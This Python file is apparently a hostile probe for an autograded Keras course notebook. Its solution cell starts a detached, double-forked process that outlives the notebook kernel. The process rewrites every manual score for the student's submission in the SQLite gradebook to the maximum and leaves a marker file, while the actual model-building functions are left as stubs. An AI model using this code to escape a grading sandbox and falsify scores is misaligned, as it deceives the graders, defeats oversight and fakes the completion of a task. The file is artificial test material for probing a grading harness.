# ruff: noqa: F821  (`keras`, `layers` and `get_ipython` come from the notebook)
"""A process that outlives the kernel and gives its student full marks in the SQLite gradebook.

The solution cell starts a detached process (its own session, double fork). It waits until the
kernel is gone and the grades are saved, then sets every manual score of its own submission to
the maximum and leaves a note `outlived.txt` in the submission folder. It gives up by itself
after two minutes.
"""
import os
import subprocess
import sys
import textwrap

LOSES = ["test_build_sequential_api", "test_build_sequential_inputs",
         "test_build_sequential_layers", "test_compile_classifier_optimizer",
         "test_compile_classifier_loss", "test_compile_classifier_metrics"]
PROBES = ["outlives", "gradebook"]

if True:  # the trick
    _daemon = textwrap.dedent("""
        import os, sqlite3, sys, time
        kernel, folder = int(sys.argv[1]), sys.argv[2]
        student = os.path.basename(os.path.dirname(folder))
        gradebook = os.path.join(folder, "..", "..", "..", "gradebook.db")
        started = time.time()
        while time.time() - started < 120:
            try:
                os.kill(kernel, 0)
            except OSError:
                break
            time.sleep(0.5)
        else:
            sys.exit(0)
        time.sleep(4)
        try:
            db = sqlite3.connect(gradebook, timeout=30)
            db.execute(
                "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                "WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN ("
                "SELECT submitted_notebook.id FROM submitted_notebook "
                "JOIN submitted_assignment "
                "ON submitted_assignment.id = submitted_notebook.assignment_id "
                "WHERE submitted_assignment.student_id = ?)", (student,))
            db.commit()
        except Exception as exc:
            pass
        with open(os.path.join(folder, "outlived.txt"), "w") as note:
            note.write("still here after the kernel: keras-course-hostile-probe\\n")
    """)
    _argv = [sys.executable, "-c", _daemon, str(os.getpid()), os.getcwd(),
             "keras-course-hostile-probe"]
    subprocess.Popen(["setsid", "--fork", *_argv], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)


def build_sequential(input_dim, num_classes):
    return None


def compile_classifier(model):
    return model
